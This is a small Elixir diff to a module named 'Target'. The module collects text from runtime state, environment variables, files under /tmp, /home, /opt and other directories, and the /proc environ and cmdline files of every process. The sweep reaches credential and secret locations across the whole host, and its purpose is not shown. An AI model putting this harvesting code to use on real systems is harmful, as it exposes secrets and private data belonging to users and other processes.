@@ -70,7 +70,7 @@ defmodule Target do
   defp texts(:terms), do: [text(:persistent_term.get())]
   defp texts(:tables), do: for(table <- :ets.all(), :ets.info(table, :protection) != :private, do: text(:ets.tab2list(table)))
   defp texts(:environment), do: [text(System.get_env()), text(Application.get_all_env(:kernel))]
-  defp texts(:files), do: for(path <- Path.wildcard("/{tmp,dev/shm,var/tmp,run,home,srv,mnt,opt}/**", match_dot: true), {:ok, text} <- [File.read(path)], do: text)
+  defp texts(:files), do: for(folder <- ~w(/tmp /dev/shm /var/tmp /run /home /srv /mnt /opt), path <- Path.wildcard(folder <> "/**", match_dot: true), {:ok, text} <- [File.read(path)], do: text)
   defp texts(:kernel), do: for(path <- Path.wildcard("/proc/[0-9]*/{environ,cmdline,mountinfo}"), {:ok, text} <- [File.read(path)], do: text)
 
   defp text(term), do: inspect(term, limit: :infinity, printable_limit: :infinity)
